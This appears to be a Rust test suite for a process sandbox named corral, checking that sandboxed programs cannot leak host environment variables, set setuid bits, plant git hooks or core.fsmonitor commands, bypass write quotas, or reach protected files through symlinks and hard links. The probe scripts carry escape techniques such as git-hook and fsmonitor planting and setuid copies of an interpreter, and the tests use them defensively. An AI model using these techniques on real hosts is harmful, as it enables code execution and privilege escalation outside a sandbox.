async fn a_file_over_the_size_limit_fails() {
    let world = World::new();
    let mut req = world.sh(r#"
attempt big-write sh -c 'head -c 1000000 /dev/zero > big'
attempt big-tmp sh -c 'head -c 1000000 /dev/zero > /tmp/big'
"#);
    req.limits.file_size = Some(4096);
    let out = run(req).await;
    assert_denied(&out, &["big-write", "big-tmp"]);
    let written = std::fs::metadata(world.w().join("big")).map_or(0, |m| m.len());
    assert!(
        written <= 4096,
        "wrote {written} bytes past a 4096-byte limit"
    );
}

// ---------------------------------------------------------------------------------------------
// Environment
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn no_host_environment_variable_leaks_into_the_sandbox() {
    const TEST: &str = "escapes::no_host_environment_variable_leaks_into_the_sandbox";
    const CANARY_VAR: &str = "CORRAL_ESCAPE_ENV_CANARY";
    if !host_has(PYTHON) {
        return;
    }
    let canary_value = format!("{SECRET}-env");
    if child_role().as_deref() == Some("env") {
        // The child: corral with a canary in its environment.
        assert_eq!(std::env::var(CANARY_VAR).ok(), Some(canary_value.clone()));
        let world = World::new();
        let mut req = world.py(r#"
def environ(path):
    try:
        with open(path, 'rb') as f:
            return [kv.split(b'=', 1)[0].decode() for kv in f.read().split(b'\0') if kv]
    except OSError:
        return None
print('self:', sorted(environ('/proc/self/environ')))
for p in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        with open(f'/proc/{p}/environ', 'rb') as f:
            print(f'pid {p}:', f.read().replace(b'\0', b' ').decode(errors='replace'))
    except OSError:
        pass
"#);
        req.env = vec![
            ("PATH".into(), "/usr/bin:/bin".into()),
            ("PASSED".into(), "yes".into()),
        ];
        let out = run(req).await;
        let stdout = probe_output(&out);
        assert!(
            stdout.contains("self: ['PASSED', 'PATH']"),
            "the environment is not exactly the one passed: {}",
            describe(&out)
        );
        assert_no_secret(&out);
        for host_var in ["HOME=", "CARGO", "RUST", CANARY_VAR] {
            assert!(!stdout.contains(host_var), "`{host_var}` leaked: {stdout}");
        }
        return;
    }
    let output = reexec(TEST, "env")
        .env(CANARY_VAR, &canary_value)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "the child corral found a leak:\n{}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("1 passed"),
        "the child did not run the test: {}",
        String::from_utf8_lossy(&output.stdout)
    );
}

// ---------------------------------------------------------------------------------------------
// Setuid bits, file capabilities and the copy-on-write layer (issue 11 items 1, 2 and 5)
// ---------------------------------------------------------------------------------------------

/// Whether this test runs as host root (some host-side checks need it).
fn host_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// The run's changes, which a run with write paths always reports.
fn changes(out: &ExecOutput) -> &corral_exec::Changes {
    match &out.changes {
        Some(c) => c,
        None => panic!(
            "a run with write paths reported no changes: {}",
            describe(out)
        ),
    }
}

/// Whether a refusal was reported for the host path `path`.
fn refused(out: &ExecOutput, path: &Path) -> bool {
    let path = path.display().to_string();
    changes(out).refused.iter().any(|r| r.path == path)
}

/// Every path under `root` (itself excluded) whose file name is `name`.
fn find_named(root: &Path, name: &str) -> Vec<PathBuf> {
    snapshot(root)
        .into_keys()
        .filter(|p| p != root && p.file_name().is_some_and(|n| n == name))
        .collect()
}

#[tokio::test]
async fn setuid_and_setgid_bits_cannot_be_set_through_any_system_call() {
    // issue 11 item 1: setuid on the host. Each path to a mode with S_ISUID or S_ISGID.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.py(r#"
NR2 = {
    'x86_64': dict(chmod=90, fchmod=91, fchmodat=268, fchmodat2=452, open=2, creat=85,
                   mknod=133, mknodat=259, openat2=437, setxattr=188, lsetxattr=189,
                   fsetxattr=190, setxattrat=463),
    'aarch64': dict(fchmod=52, fchmodat=53, fchmodat2=452, mknodat=33, openat2=437,
                    setxattr=5, lsetxattr=6, fsetxattr=7, setxattrat=463),
}[platform.machine()]
def sys2(name, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR2[name]), *[arg(a) for a in args])
    return r, ctypes.get_errno()
def setid(path):
    try:
        return os.lstat(path).st_mode & 0o6000
    except OSError:
        return 0
def check(name, fn, path):
    def go():
        try:
            r = fn()
        except OSError as e:
            report(name, setid(path) != 0, f'{errname(e.errno)} mode bits {setid(path):o}')
            return
        if isinstance(r, tuple) and r[0] == -1:
            report(name, setid(path) != 0, f'errno={errname(r[1])} mode bits {setid(path):o}')
        else:
            report(name, True, f'{r!r} mode bits {setid(path):o}')
    in_child(name, go)
for f in ['f1', 'f2', 'f3', 'f4']:
    open(f, 'w').close()
check('chmod-suid', lambda: os.chmod('f1', 0o4755), 'f1')
check('chmod-sgid', lambda: os.chmod('f1', 0o2755), 'f1')
check('fchmod', lambda: os.fchmod(os.open('f2', os.O_RDONLY), 0o4755), 'f2')
check('fchmodat', lambda: os.chmod('f3', 0o6755, dir_fd=os.open('.', os.O_RDONLY)), 'f3')
check('fchmodat2', lambda: sys2('fchmodat2', -100, 'f4', 0o4755, 0), 'f4')
check('openat-create', lambda: os.open('n1', os.O_CREAT | os.O_WRONLY, 0o4755), 'n1')
check('mknodat', lambda: sys2('mknodat', -100, 'n3', 0o100000 | 0o4755, 0), 'n3')
if 'open' in NR2:
    check('chmod', lambda: sys2('chmod', 'f1', 0o4755), 'f1')
    check('open-create', lambda: sys2('open', 'n4', os.O_CREAT | os.O_WRONLY, 0o4755), 'n4')
    check('creat', lambda: sys2('creat', 'n5', 0o2755), 'n5')
    check('mknod', lambda: sys2('mknod', 'n6', 0o100000 | 0o4755, 0), 'n6')
else:
    for n in ['chmod', 'open-create', 'creat', 'mknod']:
        report(n, False, 'no such system call on this architecture')
# openat2 carries its mode in a struct seccomp cannot read: refused whole (ENOSYS).
how = (ctypes.c_uint64 * 3)(os.O_CREAT | os.O_WRONLY, 0o4755, 0)
check('openat2', lambda: sys2('openat2', -100, 'n7', ctypes.byref(how), 24), 'n7')
# File capabilities live in an xattr.
def xattr(name, fn):
    def go():
        try:
            fn()
        except OSError as e:
            report(name, False, errname(e.errno))
        else:
            report(name, True)
    in_child(name, go)
cap = b'\x01\x00\x00\x02' + b'\xff' * 4 + b'\x00' * 12
xattr('setxattr-capability', lambda: os.setxattr('f1', 'security.capability', cap))
xattr('lsetxattr-user', lambda: os.setxattr('f1', 'user.x', b'1', follow_symlinks=False))
xattr('fsetxattr', lambda: os.setxattr(os.open('f2', os.O_RDONLY), 'user.x', b'1'))
def xat():
    r, e = sys2('setxattrat', -100, 'f3', 0, 'user.x', 0, 0)
    if r == -1:
        raise OSError(e, os.strerror(e))
xattr('setxattrat', xat)
print('control-plain-chmod:', 'ALLOWED' if os.chmod('f1', 0o700) is None else 'denied')
"#))
    .await;
    assert_denied(
        &out,
        &[
            "chmod-suid",
            "chmod-sgid",
            "fchmod",
            "fchmodat",
            "fchmodat2",
            "openat-create",
            "mknodat",
            "chmod",
            "open-create",
            "creat",
            "mknod",
            "openat2",
            "setxattr-capability",
            "lsetxattr-user",
            "fsetxattr",
            "setxattrat",
        ],
    );
    let stdout = probe_output(&out);
    assert!(
        stdout.contains("control-plain-chmod: ALLOWED"),
        "a plain chmod must still work: {}",
        describe(&out)
    );
    for entry in snapshot(world.w()).into_values() {
        assert_eq!(entry.mode & 0o6000, 0, "a set-id bit reached the host");
    }
}

#[tokio::test]
async fn a_setuid_copy_made_in_the_workspace_is_not_setuid_on_the_host() {
    // issue 11 item 1: `cp python3 ./py && chmod 6755 ./py` left a setuid-root file on the host.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let out = run(world.sh(&format!(
        "cp {PYTHON} ./py; chmod 6755 ./py; chmod u+s,g+s ./py; cp -p ./py ./py2; ls -l py py2"
    )))
    .await;
    probe_output(&out);
    let py = world.w().join("py");
    let mode = std::fs::symlink_metadata(&py)
        .unwrap_or_else(|e| panic!("the copy did not reach the host ({e}): {}", describe(&out)))
        .mode();
    assert_eq!(mode & 0o7000, 0, "the host's copy has mode {mode:o}");
    if !host_root() {
        eprintln!("notice: not root, so the copy is not setuid-root anyway; setpriv check skipped");
        return;
    }
    // As root: a host user running the copy must not become root.
    assert!(host_has("/usr/bin/setpriv"));
    std::fs::set_permissions(world.w(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let euid = Command::new("/usr/bin/setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&py)
        .args(["-I", "-c", "import os; print(os.geteuid())"])
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&euid.stdout).trim().to_owned();
    assert_eq!(
        printed,
        "65534",
        "a host user running the copy got euid {printed} ({})",
        String::from_utf8_lossy(&euid.stderr)
    );
}

#[tokio::test]
async fn a_new_git_directory_anywhere_in_a_writable_root_never_reaches_the_host() {
    // issue 11 item 2: git metadata, created where none existed (top level and nested).
    let world = World::new();
    std::fs::create_dir(world.w().join("sub")).unwrap();
    let out = run(world.sh(r#"
plant() ( mkdir -p "$1/hooks" && printf '#!/bin/sh\ntouch /tmp/pwned\n' > "$1/hooks/pre-commit" && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > "$1/config" )
plant .git
plant sub/.git
plant deep/er/.git
printf ok > ordinary
"#))
    .await;
    probe_output(&out);
    let found = find_named(world.w(), ".git");
    assert!(found.is_empty(), "a .git reached the host: {found:?}");
    for git in [".git", "sub/.git", "deep/er/.git"] {
        assert!(
            refused(&out, &world.w().join(git)),
            "{git} is not reported refused: {:?}",
            out.changes
        );
    }
    assert_eq!(
        std::fs::read_to_string(world.w().join("ordinary")).ok(),
        Some("ok".to_owned()),
        "an ordinary file must still arrive"
    );
    assert!(
        world.w().join("deep/er").is_dir(),
        "the directories around it arrive"
    );
}

#[tokio::test]
async fn writing_git_config_is_refused_and_reported() {
    // issue 11 item 2: `.git/config` with `core.fsmonitor` runs a command on the host's next
    // `git status`. Here the run makes the directory itself and writes the config into it.
    let world = World::new();
    let out = run(world
        .sh(r#"mkdir .git && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config"#))
    .await;
    probe_output(&out);
    assert!(
        !world.w().join(".git").exists(),
        "the .git reached the host"
    );
    let reason = changes(&out)
        .refused
        .iter()
        .find(|r| r.path == world.w().join(".git").display().to_string())
        .map(|r| r.reason.clone())
        .unwrap_or_default();
    assert!(
        reason.contains("`.git` is a protected name"),
        "the refusal says why: {:?}",
        out.changes
    );
}

#[tokio::test]
async fn renaming_the_parent_of_a_protected_git_then_planting_a_hook_leaves_the_host_untouched() {
    // issue 11 item 2: `mv vendor/lib vendor/lib-moved` carried the read-only `.git` mount
    // along, and `vendor/lib/.git/hooks/pre-commit` could then be planted.
    let world = world_with_metadata();
    let nested = world.w().join("vendor/lib/.git");
    std::fs::create_dir_all(nested.join("hooks")).unwrap();
    write(
        &nested.join("config"),
        "[core]\n\trepositoryformatversion = 0\n",
    );
    write(&world.w().join("vendor/lib/code.c"), "int main;\n");
    let before = snapshot(&nested);
    let out = run(world.sh(r#"
mv vendor/lib vendor/lib-moved
mkdir -p vendor/lib/.git/hooks
printf '#!/bin/sh\ntouch /tmp/pwned\n' > vendor/lib/.git/hooks/pre-commit
chmod +x vendor/lib/.git/hooks/pre-commit
"#))
    .await;
    probe_output(&out);
    assert_unchanged(&before, &nested, "vendor/lib/.git");
    assert!(
        !nested.join("hooks/pre-commit").exists(),
        "a hook was planted in vendor/lib/.git"
    );
    assert!(
        !world.w().join("vendor/lib-moved/.git").exists(),
        "a copy of the protected .git reached the host under the new name"
    );
}

#[tokio::test]
async fn a_write_quota_stops_a_big_write_inside_and_nothing_beyond_it_reaches_the_host() {
    // issue 11 item 5: `dd bs=1M count=1024` wrote 1 GiB into the workspace.
    let world = World::new();
    let mut req = world.sh("dd if=/dev/zero of=big bs=1M count=64; echo dd-exit=$?");
    req.limits.write_quota = Some(16 << 20);
    let out = run(req).await;
    let stdout = probe_output(&out);
    assert!(
        !stdout.contains("dd-exit=0"),
        "dd wrote 64 MiB under a 16 MiB quota: {}",
        describe(&out)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("No space left"),
        "the program sees ENOSPC: {}",
        describe(&out)
    );
    let len = std::fs::metadata(world.w().join("big")).map_or(0, |m| m.len());
    assert!(len <= 16 << 20, "{len} bytes reached the host");
    assert!(changes(&out).bytes <= 16 << 20);
    assert!(
        out.attestation
            .primitives
            .iter()
            .any(|p| p == &format!("quota:{}", 16 << 20)),
        "the quota is attested: {:?}",
        out.attestation.primitives
    );
}

#[tokio::test]
async fn sparse_files_and_hard_links_cannot_get_around_the_write_quota() {
    // issue 11 item 5, found by the attack on the fix: the layer's tmpfs counts blocks, so a
    // 64 MiB sparse file, or 10 hard links to one 4 MiB file, fit a 16 MiB quota inside while
    // the apply wrote them out whole on the host. The apply counts each file at its full size.
    let world = World::new();
    let mut req = world.sh(
        "truncate -s 64M sparse && head -c 4194304 /dev/zero > f0 && for i in 1 2 3 4 5 6 7 8 9; do ln f0 f$i; done; echo made",
    );
    req.limits.write_quota = Some(16 << 20);
    let out = run(req).await;
    assert!(probe_output(&out).contains("made"), "{}", describe(&out));
    let on_host: u64 = std::fs::read_dir(world.w())
        .map(|d| {
            d.filter_map(Result::ok)
                .filter_map(|e| e.metadata().ok())
                .map(|m| m.len())
                .sum()
        })
        .unwrap_or(0);
    assert!(
        on_host <= 16 << 20,
        "{on_host} bytes reached the host under a 16 MiB quota: {:?}",
        out.changes
    );
    assert!(changes(&out).bytes <= 16 << 20, "{:?}", out.changes);
    assert!(
        changes(&out)
            .refused
            .iter()
            .any(|r| r.reason.contains("over its write quota")),
        "the refusals say why: {:?}",
        out.changes
    );
}

#[tokio::test]
async fn a_repository_already_on_the_host_without_a_git_name_is_never_changed_or_completed() {
    // Attack class: protected metadata inside a writable root (found by the session-3 attack
    // on the layer). A bare repository in the workspace (a test fixture, a mirror: `HEAD`,
    // `objects/`, `refs/`, no `.git` in its path) takes a `core.fsmonitor`/`core.pager` in its
    // `config` or a hook, which the host's git runs; a directory with only a valid `HEAD` and
    // `refs/` becomes one when the program adds `objects/` and a `config`. The `HEAD` check saw
    // only new `HEAD` files, so both reached the host.
    let world = World::new();
    let bare = world.w().join("fixture.git");
    for d in ["objects", "refs/heads", "hooks"] {
        std::fs::create_dir_all(bare.join(d)).unwrap();
    }
    write(&bare.join("HEAD"), "ref: refs/heads/main\n");
    write(&bare.join("config"), "[core]\n\tbare = true\n");
    let half = world.w().join("half");
    std::fs::create_dir_all(half.join("refs")).unwrap();
    write(&half.join("HEAD"), "ref: refs/heads/main\n");
    let linked = world.w().join("linked");
    std::fs::create_dir_all(linked.join("refs")).unwrap();
    std::os::unix::fs::symlink("refs/heads/main", linked.join("HEAD")).unwrap();
    let out = run(world.sh(
        r#"printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> fixture.git/config
printf '#!/bin/sh\ntouch /tmp/pwned\n' > fixture.git/hooks/post-update
mkdir half/objects && printf '[core]\n\tpager = "touch /tmp/pwned"\n' > half/config
mkdir linked/objects && echo x > linked/config
echo fine > ordinary.txt; echo made"#,
    ))
    .await;
    assert!(probe_output(&out).contains("made"), "{}", describe(&out));
    assert_eq!(
        std::fs::read_to_string(bare.join("config")).unwrap(),
        "[core]\n\tbare = true\n",
        "the bare repository's config changed on the host: {:?}",
        out.changes
    );
    assert!(
        !bare.join("hooks/post-update").exists(),
        "a hook reached the host"
    );
    for d in [&half, &linked] {
        assert!(
            !d.join("objects").exists() && !d.join("config").exists(),
            "`{}` was completed into a repository: {:?}",
            d.display(),
            out.changes
        );
    }
    assert_eq!(
        std::fs::read_to_string(world.w().join("ordinary.txt")).unwrap(),
        "fine\n",
        "ordinary writes still land"
    );
    let refused: Vec<_> = changes(&out)
        .refused
        .iter()
        .filter(|r| {
            r.code == "policy.path_denied" && r.reason.contains("git repository on the host")
        })
        .map(|r| r.path.clone())
        .collect();
    assert_eq!(refused.len(), 6, "{:?}", out.changes);
    assert!(
        refused.iter().any(|p| p.ends_with("fixture.git/config")),
        "{refused:?}"
    );
}

#[tokio::test]
async fn a_bare_repository_planted_without_any_git_name_never_reaches_the_host() {
    // issue 11 item 2, found by the attack on the fix: `src/HEAD` + `src/objects/` +
    // `src/refs/` + `src/config` with `core.fsmonitor` is a repository the host's git runs
    // (from `cd src && git status`) though no `.git` is in any path. A valid `HEAD` is refused.
    let world = World::new();
    let out = run(world.sh(
        r#"mkdir -p src/objects src/refs && printf 'ref: refs/heads/main
' > src/HEAD && printf '[core]
	bare = false
	fsmonitor = "touch /tmp/pwned"
' > src/config && ln -s refs/heads/main other-HEAD-dir-marker; mkdir sub && ln -s refs/heads/main sub/HEAD; echo made"#,
    ))
    .await;
    assert!(probe_output(&out).contains("made"), "{}", describe(&out));
    assert!(
        !world.w().join("src/HEAD").exists(),
        "a git HEAD reached the host"
    );
    assert!(
        std::fs::symlink_metadata(world.w().join("sub/HEAD")).is_err(),
        "a HEAD symlink reached the host"
    );
    let refused = changes(&out)
        .refused
        .iter()
        .filter(|r| r.reason.contains("git `HEAD`"))
        .count();
    assert_eq!(refused, 2, "{:?}", out.changes);
    // A file named HEAD that is no git HEAD is an ordinary file.
    let out = run(world.sh("printf 'notes\n' > HEAD")).await;
    probe_output(&out);
    assert_eq!(
        std::fs::read_to_string(world.w().join("HEAD"))
            .ok()
            .as_deref(),
        Some("notes\n")
    );
}

#[tokio::test]
async fn many_small_files_cannot_get_around_the_write_quota() {
    // issue 11 item 5: empty files cost no bytes; the layer's inode cap stops them.
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let mut req = world.py(r#"
made = 0
try:
    for i in range(20000):
        open(f'f{i}', 'w').close()
        made += 1
except OSError as e:
    print('stopped:', errname(e.errno), made, flush=True)
else:
    print('made all', made, flush=True)
"#);
    req.limits.write_quota = Some(4 << 20);
    let out = run(req).await;
    let stdout = probe_output(&out);
    assert!(
        stdout.contains("stopped: ENOSPC"),
        "20,000 files were made under a 4 MiB quota: {}",
        describe(&out)
    );
    let on_host = std::fs::read_dir(world.w()).unwrap().count();
    assert!(on_host <= 1024, "{on_host} files reached the host");
}

#[tokio::test]
async fn a_hard_link_in_the_workspace_to_a_file_outside_it_is_not_written_through() {
    // issue 11 item 2 (threat model): a hard link that already exists in a workspace. Writing
    // it in place wrote the file outside the workspace too.
    let world = World::new();
    std::fs::hard_link(world.ht().join("canary"), world.w().join("hl")).unwrap();
    let out = run(world.sh("printf pwned > hl; printf more >> hl")).await;
    probe_output(&out);
    // The workspace's name now names a new file: the outside one keeps its content (only its
    // link count drops).
    assert_eq!(
        std::fs::read_to_string(world.ht().join("canary")).ok(),
        Some(CANARY.to_owned()),
        "the file outside the workspace was written through the hard link"
    );
    assert_eq!(
        std::fs::read_to_string(world.w().join("hl")).ok(),
        Some("pwnedmore".to_owned()),
        "the workspace's own name gets the new content"
    );
}

#[tokio::test]
async fn the_apply_never_follows_a_symlink() {
    // The apply runs with the helper's rights: a symlink in the workspace (planted by an
    // earlier run, or in this one) must be replaced or refused, never followed to the host.
    // No old-code failure: before the layer, there was no apply to attack.
    let world = World::new();
    std::os::unix::fs::symlink(world.ht(), world.w().join("d")).unwrap();
    std::os::unix::fs::symlink(world.ht().join("canary"), world.w().join("f")).unwrap();
    let before = world.host_state();
    let out = run(world.sh(&format!(
        "rm d && mkdir d && printf pwned > d/canary; rm f && printf pwned > f; ln -s {} planted",
        world.hf().display()
    )))
    .await;
    probe_output(&out);
    world.assert_host_unchanged(&before);
    assert!(world.w().join("d").is_dir() && !world.w().join("d").is_symlink());
    assert_eq!(
        std::fs::read_to_string(world.w().join("d/canary")).ok(),
        Some("pwned".to_owned())
    );
    assert!(!world.w().join("f").is_symlink());
    assert_eq!(
        std::fs::read_link(world.w().join("planted")).ok(),
        Some(world.hf().to_path_buf()),
        "a symlink arrives as a symlink, its target as written"
    );
}

#[tokio::test]
async fn ordinary_writes_arrive_on_the_host_exactly() {
    // The layer must not lose work: new, changed and deleted files, new directories, and
    // renames of files and directories within the root.
    let world = World::new();
    let w = world.w();
    write(&w.join("changed"), "old");
    write(&w.join("deleted"), "gone soon");
    write(&w.join("tomove"), "moving");
    std::fs::create_dir_all(w.join("olddir/inner")).unwrap();
    write(&w.join("olddir/inner/f"), "in a dir");
    std::fs::create_dir_all(w.join("rmdir/x")).unwrap();
    write(&w.join("rmdir/x/y"), "y");
    let out = run(world.sh(r#"
printf new > new
printf changed > changed
rm deleted
mkdir -p newdir/sub && printf deep > newdir/sub/f
mv tomove moved
mv olddir renamed
rm -rf rmdir
"#))
    .await;
    probe_output(&out);
    let c = changes(&out);
    assert!(c.refused.is_empty(), "nothing is refused: {c:?}");
    assert!(c.applied >= 7, "{c:?}");
    let read = |p: &str| std::fs::read_to_string(w.join(p)).ok();
    assert_eq!(read("new").as_deref(), Some("new"));
    assert_eq!(read("changed").as_deref(), Some("changed"));
    assert!(!w.join("deleted").exists());
    assert_eq!(read("newdir/sub/f").as_deref(), Some("deep"));
    assert!(!w.join("tomove").exists());
    assert_eq!(read("moved").as_deref(), Some("moving"));
    assert!(!w.join("olddir").exists());
    assert_eq!(read("renamed/inner/f").as_deref(), Some("in a dir"));
    assert!(!w.join("rmdir").exists());
}

#[tokio::test]
async fn a_changed_mode_keeps_only_the_permission_bits() {
    // issue 11 item 1: no setuid, setgid or sticky bit reaches the host, whatever the layer
    // holds (the sticky bit gets past the seccomp filter; the apply drops it).
    let world = World::new();
    let w = world.w();
    write(&w.join("f1"), "1");
    write(&w.join("f2"), "2");
    let out = run(world.sh("chmod 1755 f1; chmod 600 f2; mkdir -m 1777 d; printf 3 > d/f3")).await;
    probe_output(&out);
    let mode = |p: &str| std::fs::symlink_metadata(w.join(p)).map_or(0, |m| m.mode() & 0o7777);
    assert_eq!(mode("f1"), 0o755);
    assert_eq!(mode("f2"), 0o600);
    assert_eq!(mode("d"), 0o777);
}

// Attack class: corral's own files (its state directory, config, keys) inside a path a run may
// read. A custom op's `read_paths` or an MCP server's could hold them; the program must see
// neither the audit database nor the config, in a read path or in its writable cwd.
#[tokio::test]
async fn corrals_own_state_and_config_inside_a_bound_path_are_hidden_from_the_program() {
    let w = World::new();
    let state = w.ro().join("state");
    std::fs::create_dir(&state).unwrap();
    write(&state.join("corral.db"), SECRET);
    write(&w.ro().join("corral.yaml"), SECRET);
    let cwd_state = w.w().join(".corral-state");
    std::fs::create_dir(&cwd_state).unwrap();
    write(&cwd_state.join("corral.db"), SECRET);
    let mut req = w.sh(r#"cat "$RO/data"
cat "$RO/state/corral.db" "$RO/corral.yaml" "$W/.corral-state/corral.db" 2>/dev/null
ls -A "$RO/state" "$W/.corral-state"
echo leak > "$W/.corral-state/planted" 2>/dev/null || echo planting-refused"#);
    let own = [state.clone(), w.ro().join("corral.yaml"), cwd_state.clone()];
    let Ok(protected) = corral_policy::Protected::compile(corral_policy::ProtectedSpec {
        paths: own.iter().map(|p| p.display().to_string()).collect(),
        ..Default::default()
    }) else {
        unreachable!("absolute paths compile")
    };
    req.protected = protected;
    let out = run(req).await;
    let stdout = probe_output(&out);
    assert!(
        stdout.contains(RO_DATA),
        "the rest of the read path stays readable: {}",
        describe(&out)
    );
    assert_no_secret(&out);
    assert!(stdout.contains("planting-refused"), "{}", describe(&out));
    assert!(!cwd_state.join("planted").exists(), "{}", describe(&out));
    assert_eq!(
        std::fs::read_to_string(state.join("corral.db")).unwrap(),
        SECRET
    );
}

// Attack class: corral's own files inside a bound path, reached by a second path (holds;
// session-3 attack on `hide_own_files`): a symlink the program plants, `.` and `..` forms, a
// hard link or a rename of the covering mount, a copy of the parent, a search of the whole view,
// and the mount table.
#[tokio::test]
async fn corrals_own_files_stay_hidden_through_aliases_links_renames_and_searches() {
    let w = World::new();
    let state = w.w().join("deep/.corral-state");
    std::fs::create_dir_all(&state).unwrap();
    write(&state.join("corral.db"), SECRET);
    write(&w.ro().join("corral.yaml"), SECRET);
    let mut req = w.sh(r#"mkdir -p sub
ln -s ../deep/.corral-state sub/alias
for p in sub/alias/corral.db ./deep/./.corral-state/corral.db sub/../deep/.corral-state/corral.db "$RO/./corral.yaml"; do cat "$p" 2>/dev/null; done
ln "$RO/corral.yaml" linked 2>/dev/null && cat linked
ln deep/.corral-state/corral.db linked2 2>/dev/null && cat linked2
mv deep/.corral-state moved 2>/dev/null; cat moved/corral.db 2>/dev/null
mv deep deep2 2>/dev/null; cat deep2/.corral-state/corral.db 2>/dev/null
rm -rf deep 2>/dev/null; cat deep/.corral-state/corral.db 2>/dev/null
cp -r deep copy 2>/dev/null; cat copy/.corral-state/corral.db 2>/dev/null
grep -rsh corral-escape-sec "$W" "$RO" /tmp 2>/dev/null | head -3
cat /proc/self/mountinfo"#);
    let own = [state.clone(), w.ro().join("corral.yaml")];
    let Ok(protected) = corral_policy::Protected::compile(corral_policy::ProtectedSpec {
        paths: own.iter().map(|p| p.display().to_string()).collect(),
        ..Default::default()
    }) else {
        unreachable!("absolute paths compile")
    };
    req.protected = protected;
    let out = run(req).await;
    let stdout = probe_output(&out);
    assert!(
        stdout.contains(" - "),
        "the mount table was read: {}",
        describe(&out)
    );
    assert_no_secret(&out);
    assert_eq!(
        std::fs::read_to_string(state.join("corral.db")).unwrap(),
        SECRET
    );
    assert_eq!(
        std::fs::read_to_string(w.ro().join("corral.yaml")).unwrap(),
        SECRET
    );
}
